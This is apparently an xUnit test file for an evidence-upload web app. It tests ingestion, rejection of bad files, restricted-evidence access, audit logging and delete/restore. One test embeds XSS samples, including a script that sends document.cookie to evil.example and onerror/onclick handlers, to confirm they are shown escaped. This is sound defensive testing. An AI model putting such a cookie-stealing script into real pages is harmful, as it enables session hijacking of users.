using System.Net;
using System.Text;
using Inspection.Web.Tests.Infrastructure;

namespace Inspection.Web.Tests;

/// <summary>Uploads through the API and the page: real PDFs become searchable evidence, bad files are refused by name, restricted evidence stays restricted.</summary>
public sealed class UploadTests(SampleSite site) : IClassFixture<SampleSite>
{
    [Fact]
    public async Task ACorpusPdfIsIngestedInTheBackgroundWithItsFindings()
    {
        using var contributor = await site.SignInAsync("contributor");
        var bytes = await File.ReadAllBytesAsync(CorpusFiles.Real("medway-cabinet-send-revisit-2020.pdf"));
        var job = await contributor.UploadAndWaitAsync("Official", ("medway-cabinet-send-revisit-2020.pdf", bytes));
        var file = job.GetProperty("files").EnumerateArray().Single();
        Assert.Equal("created", file.GetProperty("status").GetString());
        var id = file.GetProperty("documentId").GetString()!;

        var page = await contributor.GetPageAsync($"/documents/{id}");
        Assert.Contains("Medway", page, StringComparison.Ordinal);
        Assert.Contains("Findings (", page, StringComparison.Ordinal);

        var hits = await contributor.GetJsonAsync("/api/search?q=%22written+statement+of+action%22&type=CommitteeReport");
        Assert.Contains(hits.GetProperty("hits").EnumerateArray(), h => h.GetProperty("documentId").GetString() == id);

        var again = await contributor.UploadAndWaitAsync("Official", ("copy-of-the-same.pdf", bytes));
        Assert.Equal("duplicate", again.GetProperty("files")[0].GetProperty("status").GetString());

        var uploads = await contributor.GetPageAsync("/jobs");
        Assert.Contains($"href=\"/jobs/{job.GetProperty("id").GetString()}\"", uploads, StringComparison.Ordinal);
        Assert.Contains("<td>contributor</td>", uploads, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BadFilesAreRefusedByNameWithTheReasonAndChangeNothing()
    {
        using var contributor = await site.SignInAsync("contributor");
        var before = (await contributor.GetJsonAsync("/api/documents")).GetArrayLength();
        var real = await File.ReadAllBytesAsync(CorpusFiles.Real("thurrock-childrens-overview-scrutiny-2021-10.pdf"));
        var job = await contributor.UploadAndWaitAsync(
            "Official",
            ("empty-minutes.pdf", []),
            ("truncated-report.pdf", real[..4096]),
            ("spreadsheet.xlsx", [0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]));
        var files = job.GetProperty("files").EnumerateArray().ToList();
        Assert.All(files, f => Assert.Equal("rejected", f.GetProperty("status").GetString()));
        foreach (var f in files)
        {
            var name = f.GetProperty("fileName").GetString()!;
            Assert.StartsWith(name + ":", f.GetProperty("error").GetString(), StringComparison.Ordinal);
        }

        Assert.Equal(before, (await contributor.GetJsonAsync("/api/documents")).GetArrayLength());
        var page = await contributor.GetPageAsync($"/jobs/{job.GetProperty("id").GetString()}");
        Assert.Contains("Not added", page, StringComparison.Ordinal);
        Assert.Contains("empty-minutes.pdf:", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TheListOfUploadsNamesTheFilesAndSaysHowManyWereNotAdded()
    {
        using var contributor = await site.SignInAsync("contributor");
        var notes = Encoding.UTF8.GetBytes("Notes of the godwit panel\n\nThe panel reviewed supervision and agreed two actions.\n");
        var job = await contributor.UploadAndWaitAsync("Official", ("godwit-panel-notes.txt", notes), ("godwit-agenda.pdf", []));
        var again = await contributor.UploadAndWaitAsync("Official", ("godwit-panel-notes-copy.txt", notes));

        // An upload whose files were refused said "Finished" like any other, and named none of them.
        var uploads = await contributor.GetPageAsync("/jobs");
        var row = Row(uploads, job.GetProperty("id").GetString()!);
        Assert.Contains("godwit-panel-notes.txt, godwit-agenda.pdf", row, StringComparison.Ordinal);
        Assert.Contains("1 file not added", row, StringComparison.Ordinal);
        Assert.Contains("1 added", row, StringComparison.Ordinal);
        Assert.Contains("Finished (2 of 2)", row, StringComparison.Ordinal);
        var repeat = Row(uploads, again.GetProperty("id").GetString()!);
        Assert.Contains("1 already held", repeat, StringComparison.Ordinal);
        Assert.DoesNotContain("not added", repeat, StringComparison.Ordinal);

        var listed = (await contributor.GetJsonAsync("/api/jobs")).EnumerateArray().Single(j => j.GetProperty("id").GetString() == job.GetProperty("id").GetString());
        Assert.Equal(1, listed.GetProperty("notAdded").GetInt32());
        Assert.Equal(1, listed.GetProperty("added").GetInt32());
    }

    private static string Row(string page, string jobId)
    {
        var link = page.IndexOf($"href=\"/jobs/{jobId}\"", StringComparison.Ordinal);
        Assert.True(link >= 0, $"job {jobId} is not listed");
        var start = page.LastIndexOf("<tr>", link, StringComparison.Ordinal);
        return page[start..page.IndexOf("</tr>", link, StringComparison.Ordinal)];
    }

    [Fact]
    public async Task PersonalEvidenceIsInvisibleToAViewerAndEveryViewAndDownloadIsAudited()
    {
        using var lead = await site.SignInAsync("lead");
        var audit = Encoding.UTF8.GetBytes("Case audit of children in need plans\n\nThe plan for the child named in this audit lacked measurable outcomes and the zebrafinch review date was missed.\n");
        var job = await lead.UploadAndWaitAsync("Personal", ("case-audit-cin-plans.txt", audit));
        var id = job.GetProperty("files")[0].GetProperty("documentId").GetString()!;

        using var viewer = await site.SignInAsync("viewer");
        Assert.Equal(0, (await viewer.GetJsonAsync("/api/search?q=zebrafinch")).GetProperty("total").GetInt32());
        Assert.Equal(HttpStatusCode.NotFound, (await viewer.Client.GetAsync(new Uri($"/documents/{id}", UriKind.Relative))).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await viewer.Client.GetAsync(new Uri($"/api/documents/{id}/original", UriKind.Relative))).StatusCode);
        Assert.DoesNotContain(id, await viewer.GetPageAsync("/documents"), StringComparison.Ordinal);

        Assert.Equal(1, (await lead.GetJsonAsync("/api/search?q=zebrafinch")).GetProperty("total").GetInt32());
        Assert.Contains("zebrafinch", await lead.GetPageAsync($"/documents/{id}"), StringComparison.Ordinal);
        var original = await lead.Client.GetAsync(new Uri($"/documents/{id}?handler=original", UriKind.Relative));
        Assert.Equal(audit, await original.Content.ReadAsByteArrayAsync());

        using var admin = await site.SignInAsync("admin");
        var log = await admin.GetPageAsync($"/admin/audit?document={id}");
        Assert.Contains("<td>Viewed restricted evidence</td>", log, StringComparison.Ordinal);
        Assert.Contains("<td>Downloaded an original</td>", log, StringComparison.Ordinal);
        Assert.Contains("<td>lead</td>", log, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AContributorMayNotFileEvidenceAboveWhatTheyMaySee()
    {
        using var contributor = await site.SignInAsync("contributor");
        using var form = new MultipartFormDataContent
        {
            { new ByteArrayContent("A note"u8.ToArray()), "files", "note.txt" },
            { new StringContent("Personal"), "classification" },
        };
        var response = await contributor.Client.PostAsync(new Uri("/api/uploads", UriKind.Relative), form);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("may not upload Personal evidence", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task HostileHtmlIsStoredAsTextAndShownEscaped()
    {
        using var contributor = await site.SignInAsync("contributor");
        var html = Encoding.UTF8.GetBytes("""
            <html><head><title>Panel notes</title><script>document.location='http://evil.example/'+document.cookie</script></head>
            <body><main><h1>Panel notes on &lt;script&gt;alert(1)&lt;/script&gt;</h1>
            <p onclick="steal()">The panel reviewed placement stability <img src=x onerror="alert(2)"> for care leavers.</p></main></body></html>
            """);
        var job = await contributor.UploadAndWaitAsync("Official", ("panel-notes.html", html));
        var id = job.GetProperty("files")[0].GetProperty("documentId").GetString()!;
        var page = await contributor.GetPageAsync($"/documents/{id}");
        Assert.Contains("placement stability", page, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", page, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert", page, StringComparison.Ordinal);
        Assert.DoesNotContain("onerror", page, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TheUploadPageNamesTheProblemWhenNoFileIsChosen()
    {
        using var contributor = await site.SignInAsync("contributor");
        var page = await contributor.GetPageAsync("/upload");
        using var form = new MultipartFormDataContent
        {
            { new StringContent(WebSession.Token(page)), "__RequestVerificationToken" },
            { new StringContent("Official"), "classification" },
        };
        var response = await contributor.Client.PostAsync(new Uri("/upload", UriKind.Relative), form);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("Choose at least one file to upload", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnEditorDeletesAMisfiledDocumentAfterConfirmingAndItVanishesAtOnce()
    {
        using var contributor = await site.SignInAsync("contributor");
        var job = await contributor.UploadAndWaitAsync("Official", ("misfiled-note.txt", Encoding.UTF8.GetBytes("Misfiled note\n\nThe wombat review should not have been uploaded here.\n")));
        var id = job.GetProperty("files")[0].GetProperty("documentId").GetString()!;
        Assert.Equal(1, (await contributor.GetJsonAsync("/api/search?q=wombat")).GetProperty("total").GetInt32());

        using var viewer = await site.SignInAsync("viewer");
        Assert.DoesNotContain("Delete this document", await viewer.GetPageAsync($"/documents/{id}"), StringComparison.Ordinal);
        var refused = await viewer.PostFormAsync($"/documents/{id}", [], "delete");
        Assert.StartsWith("/account/access-denied", refused.Headers.Location?.PathAndQuery, StringComparison.Ordinal);
        Assert.Equal(1, (await viewer.GetJsonAsync("/api/search?q=wombat")).GetProperty("total").GetInt32());

        Assert.Contains("Yes, delete it", await contributor.GetPageAsync($"/documents/{id}?confirmdelete=true"), StringComparison.Ordinal);
        var deleted = await contributor.PostFormAsync($"/documents/{id}?confirmdelete=true", [], "delete");
        Assert.Equal(HttpStatusCode.Redirect, deleted.StatusCode);
        Assert.Equal($"/documents?deleted={id}", deleted.Headers.Location!.OriginalString);
        Assert.Equal(0, (await contributor.GetJsonAsync("/api/search?q=wombat")).GetProperty("total").GetInt32());
        Assert.Equal(HttpStatusCode.NotFound, (await contributor.Client.GetAsync(new Uri($"/documents/{id}", UriKind.Relative))).StatusCode);
        Assert.Contains("misfiled-note", await contributor.GetPageAsync("/documents/deleted"), StringComparison.Ordinal);

        // The page it lands on offers the undo; it brings the document back, searchable again.
        var landed = await contributor.GetPageAsync($"/documents?deleted={id}");
        Assert.Contains("Undo: restore it", landed, StringComparison.Ordinal);
        Assert.Contains("action=\"/documents/deleted?handler=restore\"", landed, StringComparison.Ordinal);
        var restored = await contributor.PostFormAsync("/documents/deleted", new() { ["id"] = id }, "restore");
        Assert.Equal($"/documents/{id}?saved=restored", restored.Headers.Location!.OriginalString);
        Assert.Equal(1, (await viewer.GetJsonAsync("/api/search?q=wombat")).GetProperty("total").GetInt32());
        Assert.Contains("The document was restored", await contributor.GetPageAsync($"/documents/{id}?saved=restored"), StringComparison.Ordinal);

        using var admin = await site.SignInAsync("admin");
        var audit = await admin.GetPageAsync($"/admin/audit?document={id}");
        Assert.Contains("<td>Deleted</td>", audit, StringComparison.Ordinal);
        Assert.Contains("<td>Restored from deleted items</td>", audit, StringComparison.Ordinal);
    }

    [Fact]
    public async Task FindingsFromAPersonalLetterAreListedOnlyForThoseWhoMaySeeIt()
    {
        using var lead = await site.SignInAsync("lead");
        var letter = """
            # Monitoring visit to Harrowden Borough Council children's services

            12 March 2026

            This letter summarises the findings of the monitoring visit to Harrowden Borough Council children's services on 3 and 4 March 2026.

            ## What needs to improve

            - The timeliness of aardvark reviews for care leavers.
            """;
        var job = await lead.UploadAndWaitAsync("Personal", ("restricted-letter.md", Encoding.UTF8.GetBytes(letter)));
        Assert.Equal("created", job.GetProperty("files")[0].GetProperty("status").GetString());
        static bool Aardvark(System.Text.Json.JsonElement f) => f.GetProperty("finding").GetProperty("text").GetString()!.Contains("aardvark", StringComparison.Ordinal);
        Assert.Contains((await lead.GetJsonAsync("/api/findings")).EnumerateArray(), Aardvark);
        Assert.Contains("aardvark", await lead.GetPageAsync("/findings"), StringComparison.Ordinal);

        using var viewer = await site.SignInAsync("viewer");
        Assert.DoesNotContain((await viewer.GetJsonAsync("/api/findings")).EnumerateArray(), Aardvark);
        Assert.DoesNotContain("aardvark", await viewer.GetPageAsync("/findings"), StringComparison.Ordinal);
    }
}
